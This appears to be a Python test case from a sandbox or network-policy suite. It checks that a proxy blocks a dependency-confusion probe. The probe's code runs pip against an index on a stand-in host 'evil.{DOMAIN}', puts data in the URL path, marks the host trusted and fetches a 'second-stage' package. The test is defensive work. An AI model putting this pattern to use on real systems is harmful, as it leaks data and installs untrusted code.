from ._net import ALLOW

ID = "supply.index-denied"
CATEGORY = "supply-chain"
DESCRIPTION = ("pip install --extra-index-url http://evil.probe.test/<data>/simple (a name not "
               "allowed) through the proxy: dependency confusion")
CLAIMS = ("rule:network.mode",)
POLICY = {**ALLOW, "limits": {"timeout": "60s"}}
CODE = """
import subprocess
p = subprocess.run([sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--no-cache-dir",
                    "--disable-pip-version-check", "--retries", "0", "--timeout", "5",
                    "-d", os.path.join(SCRATCH, "dl"), "--index-url",
                    f"http://evil.{DOMAIN}:{SINK_PORT}/{DATA}/simple/",
                    "--trusted-host", f"evil.{DOMAIN}", "probe-second-stage"],
                   capture_output=True, text=True)
last = ([x.strip() for x in p.stderr.splitlines() if x.strip()] or ["no message"])[-1]
out("DENIED", f"pip exit {p.returncode} ({last[:140]}); the sink decides")
"""
CONTROL = {"policy": {"network": {"allow": ["*.{DOMAIN}:{SINK_PORT}"]}}}
CONTAINED = "the proxy refuses the name: neither the sink nor the DNS log sees the data"
